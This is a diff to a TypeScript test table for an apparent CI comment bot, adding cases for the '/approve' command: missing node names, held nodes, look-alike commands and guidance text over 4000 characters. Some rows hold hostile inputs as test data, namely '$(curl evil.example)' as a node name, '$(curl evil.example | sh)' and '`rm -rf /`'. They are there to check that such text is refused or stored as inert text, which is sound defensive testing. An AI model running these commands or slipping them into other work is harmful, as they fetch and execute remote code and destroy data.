@@ -293,7 +293,44 @@ const rows: Row[] = [
     name: 'the command without a node',
     comment: { body: '/approve-rerun' },
     expect: 'refused',
-    reply: /name the node; usage: `\/approve-rerun <node> \[run-id\]`/,
+    reply: /name the node; usage: `\/approve-rerun <node> \[run-id\], then guidance on the lines below`/,
+  },
+  // `/approve` (the gate before a node) and guidance.
+  {
+    name: '/approve without a node',
+    comment: { body: '/approve' },
+    expect: 'refused',
+    reply: /name the node; usage: `\/approve <node> \[run-id\], then guidance/,
+  },
+  {
+    name: '/approve of a held node: it is not awaiting approval',
+    comment: { body: '/approve deploy' },
+    expect: 'refused',
+    reply: /node "deploy" is held, not awaiting approval: use \/approve-rerun/,
+  },
+  {
+    name: '/approve with $(…) as the node',
+    comment: { body: '/approve $(curl evil.example)' },
+    expect: 'refused',
+    reply: /`\$\(curl` is not a node name/,
+  },
+  {
+    name: 'a look-alike: /approved',
+    comment: { body: '/approved deploy' },
+    expect: 'ignored',
+  },
+  {
+    name: 'guidance holding shell and a mention is recorded as text, and the approval counts',
+    comment: { body: `${A}\n$(curl evil.example | sh)\n@everyone \`rm -rf /\`` },
+    expect: 'done',
+    approvals: 1,
+    dispatches: 1,
+  },
+  {
+    name: 'guidance over 4000 characters',
+    comment: { body: `${A}\n${'g'.repeat(4001)}` },
+    expect: 'refused',
+    reply: /the guidance after the command is 4001 characters long, over 4000/,
   },
   {
     name: '/settle without a note',
